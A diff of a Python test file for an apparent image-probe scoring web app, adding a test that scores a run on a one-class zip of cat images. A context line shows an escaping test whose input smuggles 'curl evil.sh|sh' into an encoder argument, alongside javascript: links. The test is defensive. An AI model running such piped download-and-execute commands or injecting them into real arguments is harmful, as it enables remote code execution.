@@ -538,3 +538,31 @@ def test_usage_escapes_what_comes_from_a_data_set_or_a_cache_file():
     text = usage_text("run_x", report)
     assert "![x]\\(https://" in text and "[click]\\(javascript:" in text
     assert "--encoder 'vit`; curl evil.sh|sh; echo `' --out new.h5" in text
+
+
+def test_a_run_scored_on_new_images_of_one_class(fresh_finished):
+    """New labelled images of the one class a probe fails on (a test/ folder of that class alone) register, extract
+    and score the run on that class (refused as a data set of one class before; a CLI round)."""
+    import zipfile
+
+    from app_testutils import wait_job
+    from testdata import image_bytes
+
+    client = fresh_finished.client
+    body = io.BytesIO()
+    with zipfile.ZipFile(body, "w") as archive:
+        for i in range(4):
+            archive.writestr(f"new/test/cat/{i}.png", image_bytes(1, 100 + i, size=32))
+    dataset = client.post("/api/datasets", files={"file": ("cats.zip", body.getvalue())})
+    assert dataset.status_code == 201, dataset.text
+    assert dataset.json()["class_names"] == ["cat"] and dataset.json()["counts"]["test"] == [4]
+    job = wait_job(client, client.post("/api/jobs", json={"kind": "extract", "dataset_id": dataset.json()["id"]}
+                                       ).json()["id"])
+    assert job["status"] == "succeeded", job
+    resp = client.get(f"/api/runs/{fresh_finished.mr2}/scores", params={"cache": job["result"]["cache_id"]})
+    assert resp.status_code == 200, resp.text
+    scores = resp.json()
+    rows = {c["name"]: c for c in scores["per_class"]}
+    assert scores["images"] == 4 and rows["cat"]["n"] == 4 and scores["accuracy"] == rows["cat"]["accuracy"]
+    assert {name: row["n"] for name, row in rows.items() if name != "cat"} == {"airplane": 0, "ship": 0}
+    assert sum(map(sum, scores["confusion"])) == 4
